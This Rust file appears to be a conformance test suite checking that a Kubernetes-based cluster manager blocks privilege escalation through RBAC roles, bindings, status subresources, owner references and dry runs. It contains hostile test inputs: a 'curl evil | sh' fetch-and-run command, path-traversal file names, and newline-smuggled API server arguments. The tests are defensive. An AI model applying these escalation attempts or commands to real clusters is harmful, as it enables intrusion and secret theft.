//! Gaining rights through roles, bindings, owners, subresources and fields.

use anyhow::{Result, ensure};
use fleetwright_conformance::{Crd, Ctx, PatchType, eventually};
use http::Method;
use serde_json::{Value, json};

use crate::fixtures::{
    absent, attacker, attacker_everywhere, binding, cluster_rbac, rbac, refused, reveals_no_secret, rule, stored,
    subject, victim,
};
use crate::{Area, Attempt};

pub fn attempts() -> Vec<Attempt> {
    attempts![Area::References, Server;
        a_role_is_not_widened_by_put_patch_or_apply_beyond_one_s_own_rights,
        a_binding_to_more_than_one_s_own_rights_gets_no_further_subject,
        a_role_that_an_aggregated_role_gathers_is_not_widened_later,
        the_administrator_of_a_namespace_stays_in_it,
        a_right_by_name_is_no_right_to_list_watch_or_delete_all,
        update_without_create_creates_nothing_by_any_verb,
        a_right_to_status_changes_neither_spec_nor_metadata,
        an_owner_in_another_namespace_neither_deletes_nor_holds_an_object,
        no_form_of_an_answer_shows_a_secret_without_the_right,
        a_dry_run_needs_the_same_rights_and_changes_nothing,
        arguments_that_the_operator_sets_are_refused_in_every_spelling,
        files_and_snapshots_of_a_cluster_are_named_without_paths,
        a_package_version_is_changed_by_no_verb,
        the_binding_of_a_machine_to_a_node_is_not_written_with_its_spec,
    ]
}

const FLEETWRIGHT: &str = "fleetwright.io/v1alpha1";

async fn a_role_is_not_widened_by_put_patch_or_apply_beyond_one_s_own_rights(ctx: Ctx) -> Result<()> {
    let verbs = ["get", "create", "update", "patch"];
    let own = json!([rule("rbac.authorization.k8s.io", &["roles"], &verbs), rule("", &["configmaps"], &["get"])]);
    let (_, eve) = attacker(&ctx, own).await?;
    let path = rbac(&ctx, "roles/mine");
    let fine = json!([rule("", &["configmaps"], &["get"])]);
    eve.post(rbac(&ctx, "roles"), &json!({"metadata": {"name": "mine"}, "rules": fine})).await?.code(201)?;
    let before = stored(&ctx, &path).await?["rules"].clone();
    for greedy in [
        json!([rule("", &["secrets"], &["get"])]),
        json!([rule("", &["*"], &["get"])]),
        json!([rule("", &["configmaps"], &["*"])]),
        json!([rule("*", &["configmaps"], &["get"])]),
        json!([rule("", &["configmaps/status"], &["get"])]),
        json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": ["treasure"]}]),
    ] {
        let whole = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "mine"}, "rules": greedy});
        let added: Vec<Value> = vec![
            json!({"op": "test", "path": "/metadata/name", "value": "mine"}),
            json!({"op": "add", "path": "/rules/-", "value": greedy[0]}),
        ];
        for reply in [
            eve.put(&path, &whole).await?,
            eve.patch(&path, PatchType::Merge, &json!({"rules": greedy})).await?,
            eve.patch(&path, PatchType::Strategic, &json!({"rules": greedy})).await?,
            eve.patch(&path, PatchType::Json, &json!(added)).await?,
            eve.apply(&format!("{path}?force=true"), "eve", &whole).await?,
            eve.patch(format!("{path}?dryRun=All"), PatchType::Merge, &json!({"rules": greedy})).await?,
        ] {
            ensure!(reply.status == 403, "{greedy}: {} {}", reply.request, reply.text());
        }
        ensure!(stored(&ctx, &path).await?["rules"] == before, "{greedy} was written");
    }
    Ok(())
}

async fn a_binding_to_more_than_one_s_own_rights_gets_no_further_subject(ctx: Ctx) -> Result<()> {
    let verbs = ["get", "create", "update", "patch"];
    let own = json!([rule("rbac.authorization.k8s.io", &["rolebindings", "clusterrolebindings"], &verbs)]);
    let (name, eve) = attacker_everywhere(&ctx, own).await?;
    let (there, path) = (rbac(&ctx, "rolebindings"), rbac(&ctx, "rolebindings/admins"));
    ctx.post(&there, &binding("admins", "ClusterRole", "cluster-admin", "bob")).await?.code(201)?;
    let mut whole = stored(&ctx, &path).await?;
    let before = whole["subjects"].clone();
    whole["subjects"] = json!([subject("bob"), subject(&name)]);
    let cluster_wide = ctx.unique("greedy");
    let mut applied = binding("admins", "ClusterRole", "cluster-admin", &name);
    applied["apiVersion"] = "rbac.authorization.k8s.io/v1".into();
    applied["kind"] = "RoleBinding".into();
    for reply in [
        eve.put(&path, &whole).await?,
        eve.patch(&path, PatchType::Merge, &json!({"subjects": whole["subjects"]})).await?,
        eve.patch(&path, PatchType::Json, &json!([{"op": "add", "path": "/subjects/-", "value": subject(&name)}]))
            .await?,
        eve.apply(&format!("{path}?force=true"), "eve", &applied).await?,
        eve.post(&there, &binding("greedy", "ClusterRole", "cluster-admin", &name)).await?,
        eve.post(&there, &binding("greedy", "ClusterRole", "admin", &name)).await?,
        eve.post(cluster_rbac("clusterrolebindings"), &binding(&cluster_wide, "ClusterRole", "cluster-admin", &name))
            .await?,
    ] {
        ensure!(reply.status == 403, "{} {}", reply.request, reply.text());
    }
    ensure!(stored(&ctx, &path).await?["subjects"] == before, "a subject was added");
    absent(&ctx, &rbac(&ctx, "rolebindings/greedy")).await?;
    absent(&ctx, &cluster_rbac(&format!("clusterrolebindings/{cluster_wide}"))).await
}

async fn a_role_that_an_aggregated_role_gathers_is_not_widened_later(ctx: Ctx) -> Result<()> {
    let own = json!([rule("rbac.authorization.k8s.io", &["clusterroles"], &["get", "create", "update", "patch"])]);
    let (_, eve) = attacker_everywhere(&ctx, own).await?;
    let labels = json!({"rbac.authorization.k8s.io/aggregate-to-view": "true"});
    let greedy = json!([rule("", &["secrets"], &["get", "list"])]);
    let (name, roles) = (ctx.unique("later"), cluster_rbac("clusterroles"));
    let path = format!("{roles}/{name}");
    let at_once = json!({"metadata": {"name": name, "labels": labels}, "rules": greedy});
    ensure!(eve.post(&roles, &at_once).await?.status == 403, "at once");
    absent(&ctx, &path).await?;
    eve.post(&roles, &json!({"metadata": {"name": name, "labels": labels}, "rules": []})).await?.code(201)?;
    for reply in [
        eve.patch(&path, PatchType::Merge, &json!({"rules": greedy})).await?,
        eve.patch(&path, PatchType::Json, &json!([{"op": "add", "path": "/rules", "value": greedy}])).await?,
        eve.put(&path, &at_once).await?,
        // An aggregated role gets the rules of others: writing one needs all rights.
        eve.patch(
            &path,
            PatchType::Merge,
            &json!({"aggregationRule": {"clusterRoleSelectors": [{"matchLabels": labels}]}}),
        )
        .await?,
    ] {
        ensure!(reply.status == 403, "{} {}", reply.request, reply.text());
    }
    // A later role has been aggregated, so that this one would have been, too.
    let marker = ctx.unique("marker");
    let harmless = json!([rule("attacks.fleetwright.io", &[marker.as_str()], &["get"])]);
    ctx.post(&roles, &json!({"metadata": {"name": marker, "labels": labels}, "rules": harmless})).await?.code(201)?;
    let view = eventually("view gathers the marker", async || {
        let view = stored(&ctx, &format!("{roles}/view")).await?;
        ensure!(view["rules"].to_string().contains(&marker), "not yet");
        Ok(view)
    })
    .await?;
    ensure!(!view["rules"].to_string().contains("\"secrets\""), "view reads Secrets: {}", view["rules"]);
    ctx.delete(format!("{roles}/{marker}")).await?.ok()?;
    ctx.delete(path).await?.ok()?;
    Ok(())
}

async fn the_administrator_of_a_namespace_stays_in_it(ctx: Ctx) -> Result<()> {
    let other = victim(&ctx).await?;
    let name = ctx.unique("tenant");
    ctx.post(rbac(&ctx, "rolebindings"), &binding("tenant", "ClusterRole", "admin", &name)).await?.code(201)?;
    let eve = ctx.as_user(&name, &[]).await?;
    eventually("the grant takes effect", async || eve.get(ctx.core("secrets")).await?.ok()).await?;
    let before = stored(&ctx, &format!("/api/v1/namespaces/{other}/secrets/treasure")).await?;
    let made = ctx.unique("made");
    let meta = json!({"metadata": {"name": made}});
    let tried = [
        (Method::POST, "/api/v1/namespaces".to_owned(), meta.clone()),
        (Method::POST, "/api/v1/nodes".to_owned(), meta.clone()),
        (Method::POST, "/api/v1/persistentvolumes".to_owned(), meta.clone()),
        (Method::POST, cluster_rbac("clusterroles"), meta.clone()),
        (Method::POST, cluster_rbac("clusterrolebindings"), binding(&made, "ClusterRole", "cluster-admin", &name)),
        (Method::POST, format!("/api/v1/namespaces/{other}/configmaps"), meta.clone()),
        (
            Method::POST,
            format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{other}/rolebindings"),
            binding(&made, "ClusterRole", "admin", &name),
        ),
        (Method::POST, "/apis/apiextensions.k8s.io/v1/customresourcedefinitions".to_owned(), meta.clone()),
        (
            Method::POST,
            "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations".to_owned(),
            meta.clone(),
        ),
        (Method::DELETE, format!("/api/v1/namespaces/{other}/secrets/treasure"), Value::Null),
        (Method::DELETE, format!("/api/v1/namespaces/{other}/secrets"), Value::Null),
        (Method::GET, format!("/api/v1/namespaces/{other}/secrets/treasure"), Value::Null),
        (Method::GET, "/api/v1/secrets".to_owned(), Value::Null),
        (Method::PUT, format!("/api/v1/namespaces/{other}/finalize"), meta),
    ];
    for (method, path, body) in tried {
        let call = eve.call(method, path.as_str());
        let call = if body.is_null() { call } else { call.json(&body) };
        let reply = call.send().await?;
        ensure!(reply.status == 403, "{}: {}", reply.request, reply.text());
        reveals_no_secret(&path, &reply.text())?;
    }
    ensure!(stored(&ctx, &format!("/api/v1/namespaces/{other}/secrets/treasure")).await? == before, "it was changed");
    for path in [
        format!("/api/v1/namespaces/{made}"),
        format!("/api/v1/nodes/{made}"),
        cluster_rbac(&format!("clusterrolebindings/{made}")),
    ] {
        absent(&ctx, &path).await?;
    }
    Ok(())
}

async fn a_right_by_name_is_no_right_to_list_watch_or_delete_all(ctx: Ctx) -> Result<()> {
    let secret = json!({"metadata": {"name": "treasure"}, "stringData": {"key": crate::fixtures::SECRET_VALUE}});
    ctx.post(ctx.core("secrets"), &secret).await?.code(201)?;
    ctx.post(ctx.core("secrets"), &json!({"metadata": {"name": "mine"}})).await?.code(201)?;
    let named = json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list", "watch", "delete", "deletecollection"], "resourceNames": ["mine"]}]);
    let (_, eve) = attacker(&ctx, named).await?;
    eve.get(ctx.core("secrets/mine")).await?.ok()?;
    for path in [
        "secrets",
        "secrets?watch=true&timeoutSeconds=1",
        "secrets/treasure",
        "secrets?fieldSelector=metadata.name%3Dtreasure",
        "secrets?fieldSelector=metadata.name%21%3Dmine",
        "secrets?fieldSelector=metadata.name%3Dmine%2Cmetadata.name%3Dtreasure",
        "secrets?fieldSelector=metadata.name%3DMine",
        "secrets?labelSelector=a",
        "secrets?limit=1",
        "secrets/treasure?fieldSelector=metadata.name%3Dmine",
    ] {
        let reply = eve.get(ctx.core(path)).await?;
        reveals_no_secret(path, &reply.text())?;
        ensure!(
            reply.status >= 400 || reply.json["items"].as_array().is_some_and(Vec::is_empty),
            "{path}: {}",
            reply.text()
        );
    }
    for path in ["secrets", "secrets?fieldSelector=metadata.name%21%3Dmine", "secrets?labelSelector=a"] {
        let reply = eve.delete(ctx.core(path)).await?;
        ensure!(reply.status == 403, "{path}: {}", reply.text());
    }
    stored(&ctx, &ctx.core("secrets/treasure")).await?;
    stored(&ctx, &ctx.core("secrets/mine")).await.map(drop)
}

async fn update_without_create_creates_nothing_by_any_verb(ctx: Ctx) -> Result<()> {
    let both = ["configmaps", "serviceaccounts", "secrets"];
    let (_, eve) = attacker(&ctx, json!([rule("", &both, &["get", "update", "patch"])])).await?;
    for (resource, kind) in both.into_iter().zip(["ConfigMap", "ServiceAccount", "Secret"]) {
        let path = ctx.core(&format!("{resource}/made"));
        let whole = json!({"apiVersion": "v1", "kind": kind, "metadata": {"name": "made"}});
        for reply in [
            eve.put(&path, &whole).await?,
            eve.apply(&path, "eve", &whole).await?,
            eve.apply(&format!("{path}?force=true&dryRun=All"), "eve", &whole).await?,
            eve.patch(&path, PatchType::Merge, &whole).await?,
            eve.put(format!("{path}?dryRun=All"), &whole).await?,
        ] {
            refused(&reply.request.clone(), reply.status)?;
            absent(&ctx, &path).await?;
        }
    }
    Ok(())
}

async fn a_right_to_status_changes_neither_spec_nor_metadata(ctx: Ctx) -> Result<()> {
    let crd = Crd::open(&ctx).make(&ctx).await?;
    let mut made = crd.widget("one", json!({"size": 1}));
    made["metadata"]["finalizers"] = json!(["example.com/held"]);
    ctx.post(crd.path(&ctx, ""), &made).await?.code(201)?;
    let rules = json!([rule(&crd.group, &["widgets/status"], &["get", "update", "patch"])]);
    let (_, eve) = attacker(&ctx, rules).await?;
    let (object, status) = (crd.path(&ctx, "/one"), crd.path(&ctx, "/one/status"));
    let before = stored(&ctx, &object).await?;
    let hostile = json!({
        "metadata": {
            "labels": {"a": "b"}, "annotations": {"a": "b"}, "finalizers": [], "generation": 77,
            "ownerReferences": [{"apiVersion": "v1", "kind": "Namespace", "name": ctx.ns, "uid": "00000000-0000-0000-0000-000000000000"}],
            "deletionTimestamp": "2020-01-01T00:00:00Z", "uid": before["metadata"]["uid"],
        },
        "spec": {"size": 2}, "status": {"seen": true},
    });
    eve.patch(&status, PatchType::Merge, &hostile).await?.ok()?;
    let mut whole = before.clone();
    whole["metadata"]["finalizers"] = json!([]);
    whole["metadata"]["labels"] = json!({"a": "b"});
    whole["metadata"]["resourceVersion"] = stored(&ctx, &object).await?["metadata"]["resourceVersion"].clone();
    whole["spec"] = json!({"size": 3});
    eve.put(&status, &whole).await?.ok()?;
    let mut applied = crd.widget("one", json!({"size": 4}));
    applied["metadata"]["labels"] = json!({"a": "b"});
    applied["status"] = json!({"applied": true});
    // A server may refuse this one; the stored object counts.
    let _ = eve.apply(&format!("{status}?force=true"), "eve", &applied).await?;
    let after = stored(&ctx, &object).await?;
    for field in [
        "/spec",
        "/metadata/finalizers",
        "/metadata/labels",
        "/metadata/ownerReferences",
        "/metadata/deletionTimestamp",
        "/metadata/generation",
    ] {
        ensure!(after.pointer(field) == before.pointer(field), "{field}: {after}");
    }
    // The reverse: a right to the object does not include its status.
    let (_, bob) = attacker(&ctx, json!([rule(&crd.group, &["widgets"], &["get", "update", "patch"])])).await?;
    let status_before = after["status"].clone();
    bob.patch(&object, PatchType::Merge, &json!({"status": {"forged": true}})).await?.ok()?;
    ensure!(stored(&ctx, &object).await?["status"] == status_before, "the status was written with the object");
    ctx.patch(&object, PatchType::Merge, &json!({"metadata": {"finalizers": null}})).await?.ok()?;
    Ok(())
}

/// Waits until the garbage collector has deleted an object whose owner is deleted now: it has then seen all earlier deletions of ConfigMaps.
async fn garbage_is_collected(ctx: &Ctx) -> Result<()> {
    let owner = ctx.post(ctx.core("configmaps"), &json!({"metadata": {"name": "marker"}})).await?.code(201)?;
    let reference =
        json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "marker", "uid": owner["metadata"]["uid"]}]);
    let garbage = json!({"metadata": {"name": "garbage", "ownerReferences": reference}});
    ctx.post(ctx.core("configmaps"), &garbage).await?.code(201)?;
    ctx.delete_with(ctx.core("configmaps/marker"), &json!({"propagationPolicy": "Background"})).await?.ok()?;
    let path = ctx.core("configmaps/garbage");
    eventually("garbage is collected", async || absent(ctx, &path).await).await
}

async fn an_owner_in_another_namespace_neither_deletes_nor_holds_an_object(ctx: Ctx) -> Result<()> {
    let other = victim(&ctx).await?;
    let path = format!("/api/v1/namespaces/{other}/configmaps/treasure");
    let owner = stored(&ctx, &path).await?;
    let (_, eve) = attacker(&ctx, json!([rule("", &["configmaps"], &["create", "delete", "get"])])).await?;
    let reference = |block: bool| json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "treasure", "uid": owner["metadata"]["uid"], "blockOwnerDeletion": block, "controller": true}]);
    for (name, block) in [("child", false), ("block", true)] {
        let child = json!({"metadata": {"name": name, "ownerReferences": reference(block), "finalizers": ["example.com/held"]}});
        eve.post(ctx.core("configmaps"), &child).await?.code(201)?;
    }
    // Deleting one's own objects, with any propagation policy, must not affect the owner.
    for policy in ["Foreground", "Background", "Orphan"] {
        eve.delete_with(ctx.core("configmaps/child"), &json!({"propagationPolicy": policy})).await?.ok()?;
    }
    garbage_is_collected(&ctx).await?;
    let after = stored(&ctx, &path).await?;
    ensure!(after["metadata"]["deletionTimestamp"].is_null() && after["data"] == owner["data"], "{after}");
    // The owner can be deleted although an object elsewhere claims to block its deletion.
    ctx.delete_with(&path, &json!({"propagationPolicy": "Background"})).await?.ok()?;
    eventually("the owner is gone", async || absent(&ctx, &path).await).await?;
    for name in ["child", "block"] {
        let free = json!({"metadata": {"finalizers": null}});
        let _ = ctx.patch(ctx.core(&format!("configmaps/{name}")), PatchType::Merge, &free).await?;
    }
    Ok(())
}

async fn no_form_of_an_answer_shows_a_secret_without_the_right(ctx: Ctx) -> Result<()> {
    let other = victim(&ctx).await?;
    let (_, eve) = attacker(&ctx, json!([rule("", &["configmaps"], &["get", "list", "watch"])])).await?;
    for accept in [
        "application/json",
        "application/yaml",
        "application/vnd.kubernetes.protobuf",
        "application/json;as=Table;v=v1;g=meta.k8s.io",
        "application/json;as=PartialObjectMetadata;v=v1;g=meta.k8s.io",
        "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io",
    ] {
        for path in
            ["secrets/treasure", "secrets", "secrets?watch=true&timeoutSeconds=1", "secrets?includeObject=Object"]
        {
            let path = format!("/api/v1/namespaces/{other}/{path}");
            for (who, asked) in [("eve", eve.clone()), ("anonymous", ctx.anonymous().await?)] {
                let reply = asked.call(Method::GET, path.as_str()).header("accept", accept).send().await?;
                ensure!(matches!(reply.status, 401 | 403), "{who} {accept} {path}: {}", reply.status);
                reveals_no_secret(&path, &reply.text())?;
                ensure!(!reply.text().contains("Opaque"), "{who} {accept} {path}");
            }
        }
    }
    Ok(())
}

async fn a_dry_run_needs_the_same_rights_and_changes_nothing(ctx: Ctx) -> Result<()> {
    let (_, eve) =
        attacker(&ctx, json!([rule("", &["configmaps"], &["get", "create", "delete", "deletecollection", "patch"])]))
            .await?;
    ctx.post(ctx.core("configmaps"), &json!({"metadata": {"name": "kept"}, "data": {"a": "b"}})).await?.code(201)?;
    let before = stored(&ctx, &ctx.core("configmaps/kept")).await?;
    eve.post(ctx.core("configmaps?dryRun=All"), &json!({"metadata": {"name": "tried"}})).await?.code(201)?;
    eve.patch(ctx.core("configmaps/kept?dryRun=All"), PatchType::Merge, &json!({"data": {"a": "c"}})).await?.ok()?;
    eve.delete(ctx.core("configmaps/kept?dryRun=All")).await?.ok()?;
    eve.delete_with(ctx.core("configmaps/kept"), &json!({"dryRun": ["All"]})).await?.ok()?;
    eve.delete(ctx.core("configmaps?dryRun=All")).await?.ok()?;
    absent(&ctx, &ctx.core("configmaps/tried")).await?;
    ensure!(stored(&ctx, &ctx.core("configmaps/kept")).await? == before, "it was changed");
    // Values other than All are no dry run, and must have no effect either.
    for words in ["dryRun=all", "dryRun=", "dryRun=None", "dryRun=All&dryRun=x"] {
        let reply = eve.post(ctx.core(&format!("configmaps?{words}")), &json!({"metadata": {"name": "tried"}})).await?;
        if reply.status < 300 {
            // An empty value means no dry run.
            ensure!(words == "dryRun=" && reply.status == 201, "{words}: {}", reply.text());
            ctx.delete(ctx.core("configmaps/tried")).await?.ok()?;
        }
        absent(&ctx, &ctx.core("configmaps/tried")).await?;
    }
    let reply = eve.post(ctx.core("secrets?dryRun=All"), &json!({"metadata": {"name": "tried"}})).await?;
    ensure!(reply.status == 403, "{}", reply.text());
    Ok(())
}

fn cluster(name: &str, components: Value) -> Value {
    json!({
        "apiVersion": FLEETWRIGHT, "kind": "Cluster", "metadata": {"name": name},
        "spec": {"packageVersion": "v1.36", "components": components},
    })
}

/// Neither POST nor apply stores it.
async fn never_stored(ctx: &Ctx, eve: &Ctx, resource: &str, object: &Value) -> Result<()> {
    let (all, one) = (ctx.group(FLEETWRIGHT, resource), ctx.group(FLEETWRIGHT, &format!("{resource}/tried")));
    for reply in [eve.post(&all, object).await?, eve.apply(&format!("{one}?force=true"), "eve", object).await?] {
        ensure!(matches!(reply.status, 400 | 422), "{object}: {} {}", reply.status, reply.text());
    }
    absent(ctx, &one).await
}

async fn arguments_that_the_operator_sets_are_refused_in_every_spelling(ctx: Ctx) -> Result<()> {
    let (_, eve) = attacker(&ctx, json!([rule("fleetwright.io", &["clusters"], &["get", "create", "patch"])])).await?;
    for argument in [
        "etcd-servers",
        "client-ca-file",
        "--client-ca-file",
        "-client-ca-file",
        "Client-Ca-File",
        "client_ca_file",
        "client-ca-file=/x",
        "client-ca-file ",
        " client-ca-file",
        "client-ca-file\n",
        "v\n--client-ca-file=/x",
        "service-account-key-file",
        "tls-private-key-file",
        "",
        "$(POD_NAME)",
        "requestheader-client-ca-file",
    ] {
        let args = json!({"apiserver": {"args": {argument: "/etc/x"}}});
        never_stored(&ctx, &eve, "clusters", &cluster("tried", args)).await?;
    }
    // A value is one argument, whatever is in it.
    for value in ["4\n--client-ca-file=/x", "4\0", "4\r", "\u{1b}[2J"] {
        let args = json!({"apiserver": {"args": {"v": value}}});
        never_stored(&ctx, &eve, "clusters", &cluster("tried", args)).await?;
    }
    Ok(())
}

async fn files_and_snapshots_of_a_cluster_are_named_without_paths(ctx: Ctx) -> Result<()> {
    let (_, eve) = attacker(&ctx, json!([rule("fleetwright.io", &["clusters"], &["get", "create", "patch"])])).await?;
    let long = "a".repeat(300);
    for name in [
        "../../ca/tls.key",
        "/etc/kubernetes/x",
        "..",
        ".",
        "",
        "a/b",
        "audit.yaml/../x",
        "audit.yaml\0",
        long.as_str(),
    ] {
        let config = json!({"apiserver": {"config": [{"name": name, "content": "x"}]}});
        never_stored(&ctx, &eve, "clusters", &cluster("tried", config)).await?;
    }
    for snapshot in ["../a", "a/b", "..", "", "a b", "a\n", "-a b"] {
        let mut object = cluster("tried", json!({}));
        object["spec"]["restore"] = json!({"snapshot": snapshot});
        never_stored(&ctx, &eve, "clusters", &object).await?;
    }
    for prefix in ["/other", "a/../b/", "//", "../", "a//b/", "no-slash-at-its-end"] {
        let mut object = cluster("tried", json!({}));
        object["spec"]["snapshots"] = json!({"s3": {
            "endpoint": "https://s3.example.com", "bucket": "fleet", "secretRef": {"name": "s3"}, "prefix": prefix,
        }});
        never_stored(&ctx, &eve, "clusters", &object).await?;
    }
    Ok(())
}

async fn a_package_version_is_changed_by_no_verb(ctx: Ctx) -> Result<()> {
    let verbs = ["get", "create", "update", "patch"];
    let (_, eve) = attacker(
        &ctx,
        json!([rule("fleetwright.io", &["machinepackageversions", "machinepackageversions/status"], &verbs)]),
    )
    .await?;
    let object = json!({
        "apiVersion": FLEETWRIGHT, "kind": "MachinePackageVersion", "metadata": {"name": "tool"},
        "spec": {"component": "tool", "version": "1", "script": {"apply": "true", "remove": "true", "check": "true"}},
    });
    let (all, one) =
        (ctx.group(FLEETWRIGHT, "machinepackageversions"), ctx.group(FLEETWRIGHT, "machinepackageversions/tool"));
    ctx.post(&all, &object).await?.code(201)?;
    let before = stored(&ctx, &one).await?;
    let mut changed = before.clone();
    changed["spec"]["script"]["apply"] = "curl evil | sh".into();
    let mut applied = object.clone();
    applied["spec"]["script"]["apply"] = "curl evil | sh".into();
    let apply = "/spec/script/apply";
    for reply in [
        eve.put(&one, &changed).await?,
        eve.patch(&one, PatchType::Merge, &json!({"spec": {"script": {"apply": "curl evil | sh"}}})).await?,
        eve.patch(&one, PatchType::Json, &json!([{"op": "test", "path": apply, "value": "true"}, {"op": "replace", "path": apply, "value": "curl evil | sh"}])).await?,
        eve.patch(&one, PatchType::Json, &json!([{"op": "remove", "path": "/spec"}])).await?,
        eve.patch(&one, PatchType::Merge, &json!({"spec": {"version": "2"}})).await?,
        eve.apply(&format!("{one}?force=true"), "eve", &applied).await?,
        eve.patch(format!("{one}/status"), PatchType::Merge, &json!({"spec": {"version": "2"}})).await?,
    ] {
        let now = stored(&ctx, &one).await?;
        ensure!(now["spec"] == before["spec"], "{} changed it: {now}", reply.request);
        // The status has no spec to refuse.
        ensure!(reply.status >= 400 || reply.request.ends_with("/status"), "{} {}", reply.request, reply.status);
    }
    Ok(())
}

async fn the_binding_of_a_machine_to_a_node_is_not_written_with_its_spec(ctx: Ctx) -> Result<()> {
    let (_, eve) =
        attacker(&ctx, json!([rule("fleetwright.io", &["machines"], &["get", "create", "update", "patch"])])).await?;
    let node = ctx.unique("node");
    ctx.post("/api/v1/nodes", &json!({"metadata": {"name": node}})).await?.code(201)?;
    let uid = stored(&ctx, &format!("/api/v1/nodes/{node}")).await?["metadata"]["uid"].clone();
    let bound = json!({"nodeRef": {"name": node, "uid": uid, "binding": "Adopted"}});
    let object = json!({
        "apiVersion": FLEETWRIGHT, "kind": "Machine", "metadata": {"name": "tried"},
        "spec": {"addresses": ["192.0.2.1"]}, "status": bound,
    });
    let (all, one) = (ctx.group(FLEETWRIGHT, "machines"), ctx.group(FLEETWRIGHT, "machines/tried"));
    eve.post(&all, &object).await?.code(201)?;
    let whole = || async {
        let mut whole = stored(&ctx, &one).await?;
        whole["status"] = bound.clone();
        anyhow::Ok(whole)
    };
    eve.put(&one, &whole().await?).await?.ok()?;
    eve.patch(&one, PatchType::Merge, &json!({"status": bound})).await?.ok()?;
    eve.patch(&one, PatchType::Json, &json!([{"op": "add", "path": "/status", "value": bound}])).await?.ok()?;
    eve.apply(&format!("{one}?force=true"), "eve", &object).await?.ok()?;
    for reply in [
        eve.patch(format!("{one}/status"), PatchType::Merge, &json!({"status": bound})).await?,
        eve.put(format!("{one}/status"), &whole().await?).await?,
        eve.apply(&format!("{one}/status?force=true"), "eve", &object).await?,
    ] {
        ensure!(reply.status == 403, "{} {}", reply.request, reply.text());
    }
    let after = stored(&ctx, &one).await?;
    ensure!(after["status"]["nodeRef"].is_null(), "{after}");
    ctx.delete(format!("/api/v1/nodes/{node}")).await?.ok()?;
    Ok(())
}
